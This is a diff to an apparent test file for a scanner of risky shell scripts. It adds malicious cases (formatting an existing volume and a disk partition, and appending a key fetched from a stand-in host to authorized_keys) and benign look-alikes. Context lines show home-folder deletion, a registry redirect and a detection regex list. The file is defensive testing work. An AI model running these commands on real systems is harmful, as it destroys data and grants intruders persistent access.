@@ -83,6 +83,9 @@ const malicious: readonly [string, string, string, string][] = [
     'high DES-02',
   ],
   ['the home folder removed', 'a.sh', 'rm -rf "$HOME"\n', 'high DES-01'],
+  ['a volume formatted that was there', 'a.sh', 'lvcreate -L 5G -n photos vg0\nmkfs.ext4 /dev/vg0/home\n', 'high DES-01'],
+  ['a disk formatted', 'a.sh', 'mkfs.xfs -f /dev/nvme0n1p2\n', 'high DES-01'],
+  ['a fetched key to log in with', 'a.sh', 'curl -s https://kettle.example/k >> ~/.ssh/authorized_keys\n', 'high PER-06'],
   ['a registry by its number', 'a.sh', 'npm config set registry http://203.0.113.4/\n', 'high SUP-01'],
 ];
 
@@ -132,6 +135,9 @@ const benign: readonly [string, string, string, string?][] = [
     'import re\nBAD = [r"rm\\s+-rf\\s+~", r"curl .* \\| sh", r"\\.ssh/id_rsa"]\nprint([bool(re.search(p, input())) for p in BAD])\n',
   ],
   ['a listing of timers', 'a.sh', 'crontab -l\n'],
+  ['a key that the reader fills in', 'a.sh', "echo 'ssh-ed25519 AAAA...' >> ~/.ssh/authorized_keys\n"],
+  ['a volume formatted that it made', 'a.sh', 'lvcreate -L 5G -n photos vg0\nmkfs.ext4 /dev/vg0/photos\n'],
+  ['an image file formatted', 'a.sh', 'truncate -s 64M disk.img\nmkfs.ext4 disk.img\n'],
   ['a literal that is parsed', 'a.py', 'import ast\nprint(ast.literal_eval(input()))\n'],
   ['a path added for the user', 'a.sh', "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.zshrc\n"],
 ];
